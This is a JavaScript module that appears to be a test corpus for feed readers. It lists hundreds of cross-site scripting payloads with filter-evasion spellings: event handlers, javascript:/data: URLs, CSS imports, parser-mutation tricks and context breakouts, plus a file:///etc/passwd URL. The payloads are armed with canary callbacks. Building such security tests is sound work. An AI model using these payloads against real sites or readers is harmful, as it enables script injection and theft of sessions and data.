// Texts that run something in a reader that trusts them. {js} stands for a call that is noticed, {id}
// for its number, {at} for an address that must never be asked, {host} for the same without http:.
// Each is what one field of one feed holds.

const inTag = (event, js = '{js}') => `${event}="${js}"`;

/// The ways to write <script> that a careless filter does not see.
const scripts = [
    '<script>{js}</script>', '<SCRIPT>{js}</SCRIPT>', '<sCrIpT>{js}</ScRiPt>', '<script\t>{js}</script\t>',
    '<script\n>{js}</script\n>', '<script\f>{js}</script >', '<script/x>{js}</script/y>', '<script/>{js}</script>',
    '<script >{js}</script a="b">', '<script type=module>{js}</script>', '<script type="text/javascript">{js}</script>',
    '<script language=JavaScript>{js}</script>', '<script x=">" y>{js}</script>', "<script a='>'>{js}</script>",
    '<script src="{at}/script/{id}"></script>', '<script src=//{host}/script/{id}></script>',
    '<script defer src={at}/script/{id}></script>', '<script async src=\n"{at}/script/{id}"\n></script>',
    '<script src={at}/script/{id}>', '<script>{js}', '<script>{js}</script', '<script>{js}</script\u00a0>',
    '<<script>{js}//<</script>', '<<<script>{js}</script>', '<scr<script>ipt>{js}</scr</script>ipt>',
    '<script>;</script><script>{js}</script>', '<!--><script>{js}</script>', '<!---><script>{js}</script>',
    '<script><!--\n{js}\n--></script>', '<script>//<![CDATA[\n{js}\n//]]></script>',
    '<script><!--<script></script>{js}//--></script>', '<script xmlns="http://www.w3.org/1999/xhtml">{js}</script>',
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">{js}</h:script>', '<script\u000b>{js}</script>',
    '<\u017fcript>{js}</\u017fcript>', '\uff1cscript\uff1e{js}\uff1c/script\uff1e', '<s\u200bcript>{js}</s\u200bcript>',
    '\u202e<script>{js}</script>\u202c', '\ufeff<script>{js}</script>', '\u2066<b>\u2069<script>{js}</script>',
    '&lt;script&gt;{js}&lt;/script&gt;', '&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;',
    '&#60;script&#62;{js}&#60;/script&#62;', '&#x3C;script&#x3E;{js}&#x3C;/script&#x3E;',
    '&#x00000003c;script&#0000062;{js}&#x3c/script&#x3e', '&ltscript&gt{js}&lt/script&gt',
    '&LT;script&GT;{js}&LT;/script&GT;', '%3Cscript%3E{js}%3C/script%3E', '\\u003cscript\\u003e{js}\\u003c/script\\u003e',
    '\\x3cscript\\x3e{js}\\x3c/script\\x3e', '+ADw-script+AD4-{js}+ADw-/script+AD4-',
    '<s\u0000cript>{js}</s\u0000cript>', '<script\u0000>{js}</script>', '\u0001<script>{js}</script>',
    '<svg><script>{js}</script></svg>', '<svg><script href="{at}/script/{id}"/></svg>',
    '<svg><script xlink:href={at}/script/{id}></script>', '<svg><script>/*<b>*/{js}</script>',
    '<math><script>{js}</script></math>', '<svg><desc><script>{js}</script></desc></svg>',
];

/// Handlers that need nobody, each in a spelling of its own.
const selfStarting = [
    '<img src=x onerror={js}>', `<img src="x" ${inTag('onerror')}>`, "<img src='x' onerror='{js}'>",
    '<img/src=x/onerror={js}>', '<img src=x oNeRrOr={js}>', '<img src=x onerror\n=\n{js}>',
    '<img src=x onerror\t=\t"{js}" >', '<img\nsrc=x\nonerror={js}\n>', '<img src=x onerror=&#104;it({id})>',
    '<img src=x onerror="&#x68;it&lpar;{id}&rpar;">', '<img src="x"onerror="{js}">', '<img src=x:x onerror={js}//',
    '<img src=x onerror={js} ', '<img src=x onerror={js}', '<img """><img src=x onerror={js}>"">',
    '<img src=x onload=x onerror={js}>', '<img src=x onerror=y{js} onerror={js}>', '<img src=x a=">" onerror={js}>',
    "<img src=x a='>' onerror={js}>", '<img src=x alt=`>` onerror={js}>', '<img src=`x`onerror={js}>',
    '<img\fsrc=x\fonerror={js}>', '<img src=x onerror=eval("{js}")>', '<img src=x onerror="alert({id})">',
    '<image src=x onerror={js}>', '<IMG SRC=X ONERROR="{js}">', '<img src="data:image/png,x" onerror={js}>',
    '<img srcset="x 1x" onerror={js}>', '<img srcset=",,x 640w," sizes=1px onerror={js}>',
    '<picture><source srcset=x><img onerror={js} src=y></picture>',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload={js} onerror={js}>',
    '<video src=x onerror={js}></video>', '<video><source src=x onerror={js}></video>', '<audio src=x onerror={js}>',
    '<video poster=x onloadstart={js}><source src=y></video>', '<audio onloadstart={js}><source src=x></audio>',
    '<video src=x onloadstart={js}>', '<body onload={js}>', '<body onpageshow={js}>', '<BODY/ONLOAD={js}>',
    '<html onmouseover={js}><body onload={js}>', '<frameset onload={js}><frame></frameset>',
    '<svg onload={js}>', '<svg/onload={js}>', '<sVg/OnLoad={js}//', '<svg\u000conload={js}>', '<svg><g onload={js}/></svg>',
    '<svg><image href=x onerror={js} /></svg>', '<svg><style onload={js}></style></svg>',
    '<svg><animate onbegin={js} attributeName=x dur=1s>', '<svg><set onbegin={js} attributeName=x>',
    '<svg><animateTransform onbegin={js} attributeName=transform dur=1s></svg>',
    '<svg><animateMotion onbegin={js} dur=1s></svg>', '<svg><discard onbegin={js} begin=0s></svg>',
    '<iframe onload={js}></iframe>', '<iframe src=about:blank onload={js}>', '<iframe/onload={js}//',
    '<object data=x onerror={js}></object>', '<object onload={js} type=text/html data="data:text/html,x"></object>',
    '<embed src=x onerror={js}>', '<embed src="data:text/html,x" onload={js}>', '<style onload={js}></style>',
    '<link rel=stylesheet href=x onerror={js}>', '<link rel=stylesheet href="data:text/css,a{}" onload={js}>',
    '<input type=image src=x onerror={js}>', '<input autofocus onfocus={js}>', '<select autofocus onfocus={js}></select>',
    '<textarea autofocus onfocus={js}></textarea>', '<button autofocus onfocus={js}>b</button>',
    '<a href=# autofocus onfocus={js}>a</a>', '<p tabindex=1 autofocus onfocus={js}>p</p>',
    '<x-y contenteditable autofocus onfocus={js}>x</x-y>', '<keygen autofocus onfocus={js}>',
    '<details open ontoggle={js}><summary>s</summary></details>', '<details ontoggle={js} open>d',
    '<marquee onstart={js}>m</marquee>', '<marquee loop=1 width=0 onfinish={js}>m</marquee>',
    '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationend={js}>p</p>',
    '<style>@keyframes m{}</style><i style=animation-name:m;animation-duration:1ms onanimationstart={js}>i</i>',
    '<video><track default kind=captions src=x onerror={js}></video>', '<table background=x onload={js}><td>t',
    '<script src=x onerror={js}></script>', '<bgsound src=x onerror={js}>', '<isindex type=image src=x onerror={js}>',
    '<dialog open autofocus tabindex=1 onfocus={js}>d</dialog>', '<object><param name=x></object><img src=x onerror={js}>',
];

/// Handlers that wait for somebody; the reader clicks, points at and focuses everything.
const patientEvents = [
    'onclick', 'ondblclick', 'onmousedown', 'onmouseup', 'onmouseover', 'onmouseenter', 'onmouseleave', 'onmouseout',
    'onmousemove', 'onpointerdown', 'onpointerover', 'onpointerenter', 'onpointermove', 'onpointerrawupdate',
    'ontouchstart', 'onwheel', 'onscroll', 'oncopy', 'oncut', 'onpaste', 'onkeydown', 'onkeyup', 'onfocus', 'onfocusin',
    'onblur', 'oncontextmenu', 'onauxclick', 'ondrag', 'ondragstart', 'ondrop', 'oninput', 'onchange', 'onselectstart',
    'ontransitionend', 'onbeforetoggle', 'onsubmit', 'onreset', 'oninvalid', 'onbeforeinput', 'onscrollend',
];
const patientElements = [
    'a', 'b', 'p', 'div', 'h1', 'li', 'td', 'blockquote', 'time', 'details', 'summary', 'figure', 'abbr', 'pre', 'ruby',
    'video', 'section', 'q', 'mark', 'span', 'font', 'center', 'nobr', 'form', 'label', 'fieldset', 'menu', 'dialog',
];
const patient = patientEvents.map((event, at) => {
    const element = patientElements[at % patientElements.length];
    return `<${element} ${event}={js} tabindex=0>${element}</${element}>`;
});

/// Spellings of a scheme that runs.
const runningUrls = [
    'javascript:{js}', 'JavaScript:{js}', 'JAVASCRIPT:{js}', ' javascript:{js}', '\njavascript:{js}', '\tjavascript:{js}',
    'java\tscript:{js}', 'java\nscript:{js}', 'java\r\nscript:{js}', 'javascript\t:{js}', 'j\na\nv\na\nscript:{js}',
    '\u0001javascript:{js}', '\u001f javascript:{js}', '\u00a0javascript:{js}', '\u200bjavascript:{js}',
    '\ufeffjavascript:{js}', 'java&#9;script:{js}', 'java&#x0A;script:{js}', 'java&NewLine;script:{js}',
    '&Tab;javascript:{js}', 'javascript&colon;{js}', 'javascript&#58;{js}', 'javascript&#x3a{js}', '&#106;avascript:{js}',
    '&#0000106&#0000097vascript:{js}', '&#x6A;&#x61;&#x76;&#x61;script:{js}', '&#14;javascript:{js}', '&#1;javascript:{js}',
    'javascript://%0a{js}', 'javascript://example.org/%0D%0A{js}', 'javascript:/*https://example.org/*/{js}',
    'javascript:"https://example.org/";{js}', 'javascript:void {js}', 'javascript:%68it({id})', 'view-source:javascript:{js}',
    'feed:javascript:{js}', 'jar:javascript:{js}', 'x-javascript:{js}', 'livescript:{js}', 'mocha:{js}',
    'vbscript:{js}', 'VbScript:msgbox({id})', 'vb\nscript:msgbox({id})', '//javascript:{js}', 'https:javascript:{js}',
    'http://javascript:{js}', 'javascript\u003a{js}', 'j\u0430vascript:{js}', 'java\u0000script:{js}',
    'data:text/html,<script>{js}</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=',
    'DATA:text/html;charset=utf-7,+ADw-script+AD4-{js}+ADw-/script+AD4-', 'data:,<script>{js}</script>',
    'data:text/xml,<script xmlns="http://www.w3.org/1999/xhtml">{js}</script>', 'data:application/xhtml+xml,<x/>',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>', 'd\nata:text/html,x',
    'data:image/png,<script>{js}</script>', 'data:image/svg+xml;base64,PHN2Zy8+', 'blob:https://example.org/{id}',
    'filesystem:https://example.org/{id}', 'file:///etc/passwd', 'intent:#Intent;S.x={id};end', 'about:blank#{id}',
    'javascript:{js}//https://example.org/', '\\\\javascript:{js}', 'javascript:alert({id})', '&#x2028;javascript:{js}',
];
const links = runningUrls.map((url) => `<a href="${url}">link</a>`);

/// What takes a URL and does more with it than wait.
const carriers = [
    '<a href=javascript:{js}>a</a>', "<a href='javascript:{js}'>a</a>", '<a href=`javascript:{js}`>a</a>',
    '<a href="x" href="javascript:{js}">a</a>', '<a\nhref\n=\n"javascript:{js}"\n>a</a>', '<a href="javascript:{js}" x="',
    '<a target=_self href="javascript:{js}">a</a>', '<a ping="{at}/ping/{id}" href="javascript:{js}">a</a>',
    '<map name=m><area href="javascript:{js}" shape=default></map><img usemap=#m src=x>',
    '<form action="javascript:{js}"><button>b</button></form>', '<form><button formaction="javascript:{js}">b</button></form>',
    '<form id=f></form><button form=f formaction=javascript:{js}>b</button>',
    '<form><input type=submit formaction=javascript:{js}></form>', '<form><input type=image src=x formaction=javascript:{js}></form>',
    '<form action={at}/form/{id}><input name=q autofocus onfocus=form.submit()></form>',
    '<isindex action=javascript:{js}>', '<iframe src="javascript:parent.{js}"></iframe>',
    '<iframe src="javascript:{js}"></iframe>', '<iframe src=data:text/html,<script>{js}</script>></iframe>',
    '<iframe src={at}/frame/{id}></iframe>', '<iframe/src=//{host}/frame/{id}', '<IFRAME SRC="{at}/frame/{id}"/>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>', "<iframe srcdoc='<img src=x onerror={js}>'></iframe>",
    '<iframe srcdoc=&lt;script&gt;{js}&lt;/script&gt;></iframe>', '<iframe srcdoc="&lt;svg onload={js}&gt;">',
    '<iframe sandbox="allow-scripts" srcdoc="<svg/onload={js}>"></iframe>',
    '<object data="javascript:{js}"></object>', '<object data="{at}/frame/{id}"></object>',
    '<object data="data:text/html,<script>{js}</script>"></object>', '<object type=image/svg+xml data="{at}/frame/{id}">',
    '<object codebase="{at}/frame/{id}"><param name=src value=javascript:{js}></object>',
    '<embed src="javascript:{js}">', '<embed src={at}/frame/{id} type=text/html>', '<embed code="{at}/frame/{id}">',
    '<applet code="javascript:{js}" archive="{at}/frame/{id}"></applet>', '<portal src="{at}/frame/{id}"></portal>',
    '<fencedframe src="{at}/frame/{id}"></fencedframe>', '<frameset><frame src="javascript:{js}"></frameset>',
    '<img src="javascript:{js}">', '<img srcset="javascript:{js} 1x, javascript:{js} 2x">', '<img lowsrc=javascript:{js}>',
    '<img dynsrc="javascript:{js}">', '<img longdesc="javascript:{js}" src=x onerror={js}>', '<input type=image src=javascript:{js}>',
    '<video poster=javascript:{js}></video>', '<source srcset="javascript:{js} 1x">', '<body background="javascript:{js}">',
    '<table background="javascript:{js}"><td background="javascript:{js}">t</table>', '<bgsound src="javascript:{js}">',
    '<blockquote cite="javascript:{js}">q</blockquote>', '<q cite=javascript:{js}>q</q>', '<del cite="javascript:{js}">d</del>',
    '<svg><a href="javascript:{js}"><text y=20>t</text></a></svg>',
    '<svg><a xlink:href="javascript:{js}"><rect width=99 height=99 /></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={js} />#x"></svg>',
    '<svg><use xlink:href="{at}/frame/{id}#x"></use></svg>', '<svg><image href="javascript:{js}"></svg>',
    '<svg><a><animate attributeName=href values=javascript:{js} /><text y=20>t</text></a></svg>',
    '<svg><a><set attributeName=href to=javascript:{js} begin=0s /><text y=20>t</text></a></svg>',
    '<svg><feImage href="{at}/frame/{id}"></svg>', '<svg><foreignObject><iframe src=javascript:{js}></iframe></foreignObject></svg>',
    '<math href="javascript:{js}"><mi>x</mi></math>', '<math><mi xlink:href="javascript:{js}">x</mi></math>',
    '<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>',
];

/// What changes the page around it.
const pages = [
    '<meta http-equiv=refresh content="0;url={at}/refresh/{id}">', '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<META HTTP-EQUIV=Refresh CONTENT=0;URL={at}/refresh/{id}>', '<meta http-equiv=refresh content="0; {at}/refresh/{id}">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>{js}</script>">', '<meta charset=utf-7>+ADw-script+AD4-{js}',
    '<meta http-equiv=content-type content="text/html;charset=iso-2022-jp"><a title="\u001b$B"><img src=x onerror={js}>\u001b(B">',
    '<meta http-equiv=set-cookie content="a={id}">', '<meta name=referrer content=unsafe-url><img src=x onerror={js}>',
    '<base href="javascript:/a/-{js}///"><a href=b>b</a>', '<base href="{at}/frame/"><script src={id}></script>',
    '<base target=_top href={at}/script/{id}/><script src=x></script>', '<link rel=stylesheet href={at}/import/{id}>',
    '<link rel="import" href="{at}/import/{id}">', '<link rel=preload as=script href={at}/import/{id}>',
    '<link rel=modulepreload href="{at}/import/{id}">', '<link rel=prefetch href={at}/import/{id}>',
    '<link rel=icon href={at}/import/{id}>', '<link rel=manifest href={at}/import/{id}>', '<link rel=stylesheet href=javascript:{js}>',
    '<style>@import "{at}/import/{id}";</style>', '<style>@import url({at}/import/{id})</style>',
    '<style>@\\69mport "{at}/import/{id}";</style>', '<style>*{background:url({at}/import/{id})}</style>',
    '<style>*{background:url(javascript:{js})}</style>', '<style>body{behavior:url({at}/import/{id})}</style>',
    '<style>*{-moz-binding:url({at}/import/{id}#x)}</style>', '<style>a{x:expression({js})}</style>',
    '<style>@font-face{font-family:f;src:url({at}/import/{id})}*{font-family:f}</style>', '<style><script>{js}</script></style>',
    '<p style="background:url({at}/import/{id})">p</p>', '<p style=background-image:url({at}/import/{id})>p</p>',
    '<p style="width:expression({js})">p</p>', '<p style="wi/**/dth:exp/**/ression({js})">p</p>',
    '<p style="behavior:url({at}/import/{id})">p</p>', '<p style="list-style-image:url(&quot;{at}/import/{id}&quot;);display:list-item">p',
    '<p style="border-image-source:url({at}/import/{id});border:1px solid">p', '<p style="content:url({at}/import/{id})">p</p>',
    '<xml src="{at}/import/{id}"></xml>', '<?xml-stylesheet href="{at}/import/{id}"?><p>p', '<?import namespace=t implementation={at}/import/{id}>',
    '<xss style="-moz-binding:url({at}/import/{id})">x', '<layer src="{at}/frame/{id}"></layer>', '<ilayer src={at}/frame/{id}>',
    '<html xmlns:t="urn:schemas-microsoft-com:time"><t:set onerror={js}>', '<noembed><img src=x onerror={js}></noembed>',
];

/// Where one parser's tree is another's.
const mutations = [
    '<noscript><p title="</noscript><img src=x onerror={js}>">', '<noscript><img src=x onerror={js}></noscript>',
    '<noscript><style></noscript><img src=x onerror={js}>', '<noscript>&lt;/noscript&gt;&lt;img src=x onerror={js}&gt;',
    '<title><p title="</title><img src=x onerror={js}>">', '<title></title><img src=x onerror={js}>',
    '<textarea><p title="</textarea><img src=x onerror={js}>">', '</textarea><img src=x onerror={js}>',
    '<xmp><p title="</xmp><img src=x onerror={js}>">', '</xmp><img src=x onerror={js}>', '<plaintext><img src=x onerror={js}>',
    '</plaintext><img src=x onerror={js}>', '<noembed><p title="</noembed><img src=x onerror={js}>">',
    '<noframes><p title="</noframes><img src=x onerror={js}>">', '<iframe><p title="</iframe><img src=x onerror={js}>">',
    '</style><img src=x onerror={js}>', '</title><svg onload={js}>', '</script><script>{js}</script>',
    '<style><p title="</style><img src=x onerror={js}>">', '<script>"</script><img src=x onerror={js}>"</script>',
    '<svg><style><img src=x onerror={js}></style></svg>', '<svg></p><style><a id="</style><img src=x onerror={js}>">',
    '<math></p><style><!--</style><img src=x onerror={js}>', '<svg><title><style><img title="</style><img src=x onerror={js}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
    '<math><mtext><table><mglyph><style><math><img src=x onerror={js}>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror={js}></style></annotation-xml></math>',
    '<math><annotation-xml encoding=text/xml><style><img title="</style><img src=x onerror={js}>"></style>',
    '<svg><foreignObject><p><style><!--</style><img src=x onerror={js}>', '<svg><desc><img src=x onerror={js}></desc></svg>',
    '<svg><foreignobject><math><mi></svg><style><img src=x onerror={js}></style>',
    '<math><mi><svg><mtext><style><img src=x onerror={js}></style></mtext></svg></mi></math>',
    '<svg><p><style><g title="</style><img src=x onerror={js}>">', '<math><br><style><a title="</style><img src=x onerror={js}>">',
    '<select><template><img src=x onerror={js}></template></select>', '<select><img src=x onerror={js}></select>',
    '<select><iframe srcdoc="<script>parent.{js}</script>"></select>', '<select><option><style></option></select><img src=x onerror={js}></style>',
    '<template><img src=x onerror={js}></template>', '<template><style></template><img src=x onerror={js}>',
    '<div><template shadowrootmode=open><img src=x onerror={js}></template></div>', '<table><img src=x onerror={js}><tr><td>',
    '<table><caption><svg onload={js}></table>', '<table><style></table><img src=x onerror={js}></style>',
    '<a><table><a href="javascript:{js}">a', '<p><svg><p title="</svg><img src=x onerror={js}>">',
    '<frameset><noframes><img src=x onerror={js}></noframes>', '<object><noembed><img src=x onerror={js}></noembed></object>',
    '<body><template><frameset onload={js}></template>', '<svg><![CDATA[><img src=x onerror={js}>]]></svg>',
    '<math><![CDATA[</math><img src=x onerror={js}>]]>', '<svg><script><![CDATA[{js}]]></script></svg>',
    '<listing>&lt;img src=x onerror={js}&gt;</listing>', '<textarea>&lt;/textarea&gt;&lt;img src=x onerror={js}&gt;</textarea>',
    '<pre>\n\n&lt;img src=x onerror={js}&gt;</pre>', '<div id="&lt;/div&gt;&lt;img src=x onerror={js}&gt;">d</div>',
    '<b title="`><img src=x onerror={js}>">b</b>', '<p title="&quot;&gt;&lt;img src=x onerror={js}&gt;">p</p>',
    '<p title="\u2028"onmouseover={js}>p', '<img alt="`` onerror={js}" src=x>', '<div/onmouseover={js}/title="<div>">d</div>',
    '<svg><animate xlink:href=#x attributeName=href values=javascript:{js} /><a id=x><text y=20>t</text></a></svg>',
];

/// What is left open, so that the page around it becomes part of it, and what closes that page.
const breaks = [
    '"><img src=x onerror={js}>', "'><img src=x onerror={js}>", '`><img src=x onerror={js}>', '><img src=x onerror={js}>',
    '" onmouseover="{js}', "' onmouseover='{js}", '" autofocus tabindex=0 onfocus="{js}', '"/onclick={js}/x="', '&quot; onmouseover=&quot;{js}',
    '&#34;&#62;<img src=x onerror={js}>', '\\"><img src=x onerror={js}>', '\\" onclick={js} x=\\"', '"><script>{js}</script>',
    "');{js};//", '";{js};//', '\\";{js};//', '</script><img src=x onerror={js}>', '</script><!--"><svg onload={js}>',
    '{"a":"</script><script>{js}</script>"}', '"}]}</script><script>{js}</script>', '\u2028{js}\u2029', '*/{js}/*', '${hit({id})}',
    '{{constructor.constructor("{js}")()}}', '<%= {js} %>', '#{{js}}', '--><img src=x onerror={js}>', '--!><img src=x onerror={js}>',
    '<!--<img src="--><img src=x onerror={js}>">', '<!-- --!><img src=x onerror={js}>', '<!-- - -><img src=x onerror={js}> -->',
    '<!--><img src=x onerror={js}>-->', '<!doctype html><img src=x onerror={js}>', '<!x><img src=x onerror={js}>',
    '<?x><img src=x onerror={js}>?>', '</ x><img src=x onerror={js}>', '<![CDATA[<img src=x onerror={js}>]]>',
    ']]><img src=x onerror={js}>', ']]>]]&gt;<svg onload={js}>', ']]><script xmlns="http://www.w3.org/1999/xhtml">{js}</script><![CDATA[',
    '</description></item><script>{js}</script>', '</div></content><h:script xmlns:h="http://www.w3.org/1999/xhtml">{js}</h:script>',
    '<x xmlns="http://www.w3.org/1999/xhtml"><script>{js}</script></x>', '<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>',
    '<html xmlns="http://www.w3.org/1999/xhtml"><body onload="{js}"/></html>', '<img src="x', '<a href="javascript:{js}', '<p title="',
    '<style>', '<script>{js}//', '<!--', '<textarea>', '<plaintext>', '<title>', '<iframe>', '<select>', '<table>', '<svg>', '<math>',
    '<b <script>{js}</script>', '<b/<img src=x onerror={js}>', '<a"><img src=x onerror={js}>', '< img src=x onerror={js}>', '<\u0000img src=x onerror={js}>',
    '<img\u0000 src=x onerror={js}>', '\u202e>"<\u202cimg src=x onerror={js}>', '<\u00adimg src=x onerror={js}>', '\ud83d\ude00<img src=x onerror={js}>',
    '\u0000<img src=x onerror={js}>', '\uff02><img src=x onerror={js}>', '\u02ba onmouseover={js}', '\u3008img src=x onerror={js}\u3009',
    '<img src=x onerror=\uff48it({id})>', '&#0;<img src=x onerror={js}>', '&zwnj;<svg/onload={js}>', '&#xfeff;<svg/onload={js}>',
    '<img src=x onerror&equals;{js}>', '&lt;img src=x onerror={js}&gt;', '&amp;lt;img src=x onerror={js}&amp;gt;',
    '&#38;lt;svg onload={js}&#38;gt;', '&amp;#60;img src=x onerror={js}&amp;#62;', '&lt;a href=javascript:{js}&gt;a&lt;/a&gt;',
];

export const payloads = [...new Set([scripts, selfStarting, patient, links, carriers, pages, mutations, breaks].flat())];

/// The payload as it is put into a feed: `id` comes back if it runs.
export function arm(payload, id, canary) {
    return payload.replaceAll('{js}', `hit(${id})`).replaceAll('{id}', id).replaceAll('{at}', canary)
        .replaceAll('{host}', canary.replace('http://', ''));
}

/// The URLs by themselves, for fields that hold nothing but an address.
export const urls = runningUrls;
